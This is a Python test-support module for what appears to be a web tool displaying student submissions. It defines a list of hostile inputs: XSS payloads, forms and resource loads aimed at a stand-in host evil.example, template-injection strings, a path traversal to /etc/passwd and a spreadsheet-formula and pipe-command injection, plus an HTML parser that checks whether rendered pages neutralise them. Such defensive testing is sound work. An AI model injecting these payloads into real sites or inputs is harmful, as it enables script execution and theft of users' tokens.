"""Texts that students could send, and what a browser would make of a page that shows them."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

RUN = "window.pwned=1"

# Names, outputs, messages of exceptions, metadata, answers: each may be any of these.
TEXTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title></head><body onload={RUN}>",
    f"</pre></code></main><img src=x onerror={RUN}>",
    f'"><svg/onload={RUN}>',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"` onclick={RUN} `",
    f"<a href=javascript:{RUN}>x</a>",
    f"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><object data=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<img src=//evil.example/pixel.png><video poster=https://evil.example/x>",
    "<form action=https://evil.example><input name=token><button>Log in</button></form>",
    "<style>body{display:none}@import url(https://evil.example/x.css)</style>",
    "0;background:url(https://evil.example/x)",
    "<!-- <b>", "--> <b>", "]]> <b>", "<![CDATA[<b>", "<plaintext>", "<template><b>", "<math><mi>",
    "&lt;script&gt; &amp;amp; &#60;b&#62;",
    "{{ 7 * 7 }} {% include 'base.html' %} {# no #} ${7*7} #{7*7} %(x)s {0.__class__}",
    "__proto__", "constructor", "../../../etc/passwd", "mistake-0-0", "class", "#class",
    "=HYPERLINK(\"https://evil.example\")", "-1+1|cmd", "NaN", "1e999",
    "right \u202eto left\u202c again", "zero\u200bwidth\ufeff", "Z\u0353\u0321a\u0359\u0345lgo",
    "line\u2028separator\u2029here", "tab\tand\nnewline", "\x1b[2Jescape\x07\x08",
    "nul\x00byte", "lone \ud800 surrogate", "\U0001f469\u200d\U0001f4bb", "x" * 5_000,
)  # fmt: skip
ADDRESSES = ("href", "src", "srcset", "action", "formaction", "data", "poster", "xlink:href")
FETCHING = {"iframe", "object", "embed", "link", "base", "form", "img", "video", "audio", "portal"}


def as_shown(text: str) -> str:
    """A text as a page can hold it, its blanks aside."""
    kept = text.encode("utf-8", "replace").decode().replace("\0", "\ufffd")
    return "".join(kept.split())


@dataclass
class Page(HTMLParser):
    """What is in a page, as a browser reads it."""

    html: bytes
    scripts: list[str] = field(default_factory=list)
    events: list[str] = field(default_factory=list)
    addresses: list[str] = field(default_factory=list)
    elements: list[str] = field(default_factory=list)
    styles: list[str] = field(default_factory=list)
    policy: str = ""
    text: str = ""

    def __post_init__(self) -> None:
        super().__init__()
        self._inside: list[str] = []
        self.feed(self.html.decode())
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append(tag)
        self._inside.append(tag)
        for name, value in attributes:
            if name.startswith("on"):
                self.events.append(name)
            if name in ADDRESSES:
                self.addresses.append(value or "")
            if name == "style":
                self.styles.append(value or "")
        about = dict(attributes)
        if tag == "meta" and about.get("http-equiv"):
            assert about["http-equiv"] == "Content-Security-Policy"
            self.policy = about["content"]

    def handle_endtag(self, tag):
        if tag in self._inside:
            while self._inside.pop() != tag:
                pass

    def handle_data(self, data):
        where = self._inside[-1] if self._inside else ""
        if where == "script":
            self.scripts.append(data)
        elif where == "style":
            self.styles.append(data)
        else:
            self.text += data

    @property
    def fetching(self) -> set[str]:
        """Elements that load or send something."""
        return FETCHING.intersection(self.elements)
